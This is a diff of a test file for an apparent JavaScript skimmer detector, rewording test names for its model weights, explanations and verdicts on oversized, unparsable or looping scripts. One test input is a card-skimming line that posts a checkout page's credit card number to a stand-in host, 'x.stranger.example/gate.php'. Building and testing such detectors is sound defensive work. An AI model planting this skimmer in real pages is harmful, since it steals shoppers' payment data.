@@ -10,12 +10,12 @@ const model = JSON.parse(readFileSync(file, 'utf8')) as Model
 describe('the weights', () => {
   it('are at most 2 MB', () => expect(statSync(file).size).toBeLessThanOrEqual(2_000_000))
 
-  it('were made for the vector that is computed', () => {
+  it('match the computed feature vector', () => {
     expect(model.features).toEqual(features.map(({ name }) => name))
     expect(new Set(model.features).size).toBe(model.features.length)
   })
 
-  it('hold trees whose every path ends in a leaf', () => {
+  it('contain trees in which every path ends in a leaf', () => {
     for (const { feature, left } of model.trees) {
       feature.forEach((asked, node) => {
         if (asked < 0) return
@@ -34,7 +34,7 @@ const texts = [
 ]
 
 describe('an explanation', () => {
-  it.each(texts)('sums up to the log-odds of the chance: %s', (text) => {
+  it.each(texts)('adds up to the log-odds of the probability: %s', (text) => {
     const { chance, bias, contributions } = explain(model, vectorOf(subjectOf(text)))
     const sum = contributions.reduce((total, one) => total + one, bias)
     expect(sum).toBeCloseTo(Math.log(chance / (1 - chance)), 6)
@@ -100,12 +100,12 @@ describe('a judgement', () => {
     ['many opened comments', '/*'.repeat(50_000)],
     ['endless digits', '1,'.repeat(200_000)],
     ['endless escapes', '\\x41'.repeat(100_000)],
-  ])('is given for %s, and nothing leaks into our own objects', (_, text) => {
+  ])('is given for %s, and nothing leaks into the global objects', (_, text) => {
     check(text)
     expect('polluted' in {}).toBe(false)
   })
 
-  it('says that a file beyond the limit was not looked at to its end', () => {
+  it('says that a file beyond the limit was not examined completely', () => {
     const judged = check(`var a=1;${' '.repeat(8_100_000)}`)
     expect(judged.ended).toBe(false)
   })
@@ -117,7 +117,7 @@ describe('a judgement', () => {
     ['at its beginning', thief + filler],
     ['at its end', `${filler}\n${thief}\n`],
     ['in its last line, after one that does not end', `${filler}\nvar a = (\n${thief}`],
-  ])('finds a thief in a file beyond the limit %s', (_, text) => {
+  ])('finds a skimmer in a file beyond the limit %s', (_, text) => {
     const { verdict, reasons, ended } = check(text)
     expect([verdict, ended]).toEqual(['malicious', false])
     const [place] = reasons[0]?.places ?? []
@@ -132,23 +132,23 @@ describe('a judgement', () => {
     ['a loop without an end', 'function f() {}; for (;;) {}', [['limit', 1, 1]]],
     ['a program without its end', "a(); if (b) { c('", [['cut-off', 16, 17]]],
     ['more than is looked at', `a();${' '.repeat(8_100_000)}`, [['too-long', 2_000_000, 8_100_004]]],
-  ])('says what is missing, and is benign only where nothing is: %s', (_, text, missing) => {
+  ])('lists what is missing, and is benign only if nothing is: %s', (_, text, missing) => {
     const judged = check(text)
     expect(judged.missing.map(({ code, read, of }) => [code, read, of])).toEqual(missing)
     expect(judged.verdict).toBe(missing.length === 0 ? 'benign' : 'inconclusive')
   })
 
-  it('stays what it is where something was found, and something is missing', () => {
+  it('keeps its verdict if something was found and something is missing', () => {
     const judged = check(`${thief}\nfor (;;) {}`)
     expect([judged.verdict, judged.missing.map(({ code }) => code)]).toEqual(['malicious', ['limit']])
   })
 
-  it('is given for text that does not parse, by its words', () => {
+  it('is given for unparsable text, by its words', () => {
     const judged = check(`if if(/checkout/.test(location)){ $.post('https://x.stranger.example/gate.php', { cc: $('#cc_number').val(`)
     expect(judged.parsed).toBe('none')
   })
 
-  it('names the versions that it was made by', () => {
+  it('names the versions of its rules and weights', () => {
     expect(judgeScript('')).toMatchObject({ rulesVersion: '6', modelVersion: model.version })
   })
 })
